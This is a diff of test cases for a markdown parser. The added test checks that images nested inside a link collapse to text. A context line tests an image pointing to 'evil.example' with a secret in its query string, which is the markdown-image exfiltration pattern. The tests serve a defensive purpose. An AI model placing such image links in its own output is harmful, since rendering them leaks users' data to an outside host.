@@ -139,6 +139,28 @@ describe("addresses", () => {
     expect(inlines("a@b.example")).toMatchObject([{ kind: "link", destination: "a@b.example" }]);
   });
 
+  it("nothing in a link can be pressed but the link, however deep it stands", () => {
+    const [link] = inlines(
+      "[**a ![cat](https://i.example/c.png) *b ![](https://i.example/d.png)* ~~c~~ d**](https://l.example)",
+    );
+    expect(link).toMatchObject({
+      kind: "link",
+      href: "https://l.example/",
+      children: [
+        {
+          kind: "strong",
+          children: [
+            { kind: "text", text: "a cat " },
+            { kind: "emphasis", children: [{ kind: "text", text: "b i.example" }] },
+            { kind: "text", text: " " },
+            { kind: "strike", children: [{ kind: "text", text: "c" }] },
+            { kind: "text", text: " d" },
+          ],
+        },
+      ],
+    });
+  });
+
   it("an image is a placeholder with a host, or text", () => {
     expect(inlines("![leak](https://evil.example/?q=secret)")).toEqual([
       { kind: "image", src: "https://evil.example/?q=secret", host: "evil.example", alt: "leak" },
